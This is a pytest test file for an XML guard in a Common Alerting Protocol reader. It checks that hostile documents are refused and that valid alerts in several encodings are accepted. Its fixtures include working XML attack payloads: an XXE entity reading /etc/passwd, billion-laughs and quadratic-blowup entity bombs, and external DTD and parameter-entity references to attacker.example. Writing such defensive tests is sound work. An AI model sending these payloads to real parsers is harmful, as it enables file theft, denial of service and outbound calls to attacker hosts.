"""The guard refuses hostile and non-XML input before any parser builds a tree, with a reason."""

from __future__ import annotations

from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from alertcast.cap import CapIssue, CapReadResult, read_cap
from alertcast.cap.guard import CapRefused, guard_document

ALERT = """<alert xmlns="urn:oasis:names:tc:emergency:cap:1.2">
  <identifier>GUARD-1</identifier><sender>guard@example.org</sender><sent>2026-02-01T10:00:00-00:00</sent>
  <status>Actual</status><msgType>Alert</msgType><scope>Public</scope>
  <info><category>Safety</category><event>{event}</event><urgency>Immediate</urgency>
    <severity>Severe</severity><certainty>Observed</certainty><headline>{headline}</headline>
    <area><areaDesc>Test area</areaDesc></area></info>
</alert>"""


def alert_text(event: str = "Test event", headline: str = "Headline") -> str:
    return ALERT.format(event=event, headline=headline)


def refusal_rule(data: bytes, **kwargs: int) -> str:
    result = read_cap(data, source="test", **kwargs)
    assert result.refusal is not None, "expected the document to be refused"
    assert not result.entries
    assert result.refusal.message and result.refusal.path == "document"
    return result.refusal.rule


XXE = b"""<?xml version="1.0"?>
<!DOCTYPE alert [<!ENTITY secret SYSTEM "file:///etc/passwd">]>
<alert xmlns="urn:oasis:names:tc:emergency:cap:1.2"><identifier>&secret;</identifier></alert>"""

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol9 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
]>
<lolz>&lol9;</lolz>"""

QUADRATIC_BLOWUP = (
    b'<?xml version="1.0"?><!DOCTYPE kaboom [<!ENTITY a "'
    + b"x" * 50_000
    + b'">]><kaboom>'
    + b"&a;" * 10_000
    + b"</kaboom>"
)

EXTERNAL_DTD = b'<?xml version="1.0"?><!DOCTYPE alert SYSTEM "http://attacker.example/cap.dtd"><alert/>'
PARAMETER_ENTITY = b'<!DOCTYPE a [<!ENTITY % remote SYSTEM "http://attacker.example/x.dtd"> %remote;]><a/>'


@pytest.mark.parametrize(
    "document",
    [XXE, BILLION_LAUGHS, QUADRATIC_BLOWUP, EXTERNAL_DTD, PARAMETER_ENTITY],
    ids=["xxe", "billion-laughs", "quadratic-blowup", "external-dtd", "parameter-entity"],
)
def test_dtds_and_entities_are_refused(document: bytes) -> None:
    assert refusal_rule(document) == "doctype"


def test_entity_refusal_says_why() -> None:
    message = read_cap(XXE, source="x").refusal
    assert message is not None and "entity" in message.message and "XXE" in message.message


@pytest.mark.parametrize("codec", ["utf-16", "utf-16-le", "utf-16-be", "utf-32"])
def test_doctype_is_found_in_utf16_and_utf32_documents(codec: str) -> None:
    declared = "UTF-32" if "32" in codec else "UTF-16"
    text = f'<?xml version="1.0" encoding="{declared}"?>\n<!DOCTYPE a [<!ENTITY x "y">]><a>&x;</a>'
    assert refusal_rule(text.encode(codec)) == "doctype"


def test_doctype_after_comments_and_processing_instructions_is_found() -> None:
    document = (
        b'<?xml version="1.0"?>\n<!-- a comment -->\n<?xml-stylesheet href="x.xsl"?>\n<!DOCTYPE a>\n<a/>'
    )
    assert refusal_rule(document) == "doctype"


def test_markup_lookalikes_inside_the_alert_are_not_mistaken_for_a_doctype() -> None:
    headline = "<![CDATA[Page starts with <!DOCTYPE html> and <!ENTITY x>]]>"
    result = read_cap(alert_text(headline=headline).encode(), source="cdata")
    assert result.accepted, result.problems()
    assert result.alerts[0].infos[0].headline == "Page starts with <!DOCTYPE html> and <!ENTITY x>"


def test_oversized_documents_are_refused_and_the_limit_is_inclusive() -> None:
    document = alert_text().encode()
    assert refusal_rule(document, max_bytes=len(document) - 1) == "too-large"
    assert read_cap(document, source="limit", max_bytes=len(document)).accepted
    assert refusal_rule(b"<a>" + b"x" * 5_000_000 + b"</a>") == "too-large"


@pytest.mark.parametrize(
    ("document", "rule"),
    [
        (b"", "empty"),
        (b" \r\n\t ", "empty"),
        (bytes(range(256)) * 4, "not-xml"),
        (b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR", "not-xml"),
        (b"<alert>\x00</alert>", "not-xml"),
        (b'{"alert": "not xml"}', "not-xml"),
        (b"Subject: alert\n\nplain text", "not-xml"),
        (b'<?xml version="1.0"?><!-- only a comment -->', "not-xml"),
        (b"<!DOCTYPE html><html><body>503</body></html>", "doctype"),
        (b"<alert><identifier>x</alert>", "not-well-formed"),
        (b"<alert>&undefined;</alert>", "not-well-formed"),
        (b"<a/><b/>", "not-well-formed"),
        (b'<?xml version="1.0" encoding="no-such-codec"?><a/>', "not-well-formed"),
        (b"<unrelated><root/></unrelated>", "no-cap-alert"),
    ],
    ids=[
        "empty",
        "whitespace",
        "binary",
        "png",
        "nul-inside",
        "json",
        "text",
        "no-root",
        "html",
        "tag-mismatch",
        "undefined-entity",
        "two-roots",
        "unknown-encoding",
        "not-cap",
    ],
)
def test_non_xml_and_broken_xml_are_refused(document: bytes, rule: str) -> None:
    assert refusal_rule(document) == rule


def test_not_well_formed_refusal_names_line_and_column() -> None:
    result = read_cap(b"<alert>\n  <identifier>x</alert>", source="broken.xml")
    assert result.refusal is not None
    assert "line 2" in result.refusal.message and "column" in result.refusal.message
    assert result.problems() == [f"broken.xml: {result.refusal}"]


def test_declared_iso_8859_1_is_read_from_bytes() -> None:
    document = ('<?xml version="1.0" encoding="ISO-8859-1"?>\n' + alert_text(event="Crue à Besançon")).encode(
        "iso-8859-1"
    )
    result = read_cap(document, source="latin1")
    assert result.accepted, result.problems()
    assert result.alerts[0].infos[0].event == "Crue à Besançon"


def test_windows_1252_and_utf8_bom_and_utf16_alerts_are_accepted() -> None:
    text = alert_text(event="Sturmwarnung – Böen")
    for document in (
        ('<?xml version="1.0" encoding="windows-1252"?>' + text).encode("cp1252"),
        b"\xef\xbb\xbf" + ('<?xml version="1.0" encoding="UTF-8"?>' + text).encode(),
        ('<?xml version="1.0" encoding="UTF-16"?>' + text).encode("utf-16"),
    ):
        result = read_cap(document, source="encodings")
        assert result.accepted, result.problems()
        assert result.alerts[0].infos[0].event == "Sturmwarnung – Böen"


def test_whitespace_before_the_xml_declaration_is_tolerated() -> None:
    result = read_cap(
        b"\r\n  " + ('<?xml version="1.0" encoding="UTF-8"?>' + alert_text()).encode(), source="ws"
    )
    assert result.accepted, result.problems()
    assert refusal_rule(b"\n<!DOCTYPE a><a/>") == "doctype"


def test_guard_raises_a_typed_error_and_rejects_text_input() -> None:
    with pytest.raises(CapRefused) as refused:
        guard_document(XXE)
    assert refused.value.issue.rule == "doctype"
    with pytest.raises(TypeError):
        read_cap(alert_text(), source="str")  # type: ignore[arg-type]


SAMPLE_BYTES = (
    Path(__file__).resolve().parents[1] / "sample_alerts" / "04-chlorine-release-shelter.xml"
).read_bytes()


@settings(max_examples=150, deadline=None)
@given(st.binary(max_size=400))
def test_arbitrary_bytes_never_escape_as_an_exception(data: bytes) -> None:
    result = read_cap(data, source="fuzz")
    assert "internal-error" not in {issue.rule for issue in _all_issues(result)}


@settings(max_examples=150, deadline=None)
@given(st.integers(0, len(SAMPLE_BYTES)), st.integers(0, 40), st.binary(max_size=12))
def test_damaged_alerts_are_rejected_or_read_never_crash(start: int, length: int, junk: bytes) -> None:
    damaged = SAMPLE_BYTES[:start] + junk + SAMPLE_BYTES[start + length :]
    result = read_cap(damaged, source="fuzz")
    assert "internal-error" not in {issue.rule for issue in _all_issues(result)}
    assert result.refusal is not None or result.entries


def _all_issues(result: CapReadResult) -> list[CapIssue]:
    issues = [result.refusal] if result.refusal else []
    return issues + [issue for entry in result.entries for issue in (*entry.errors, *entry.warnings)]
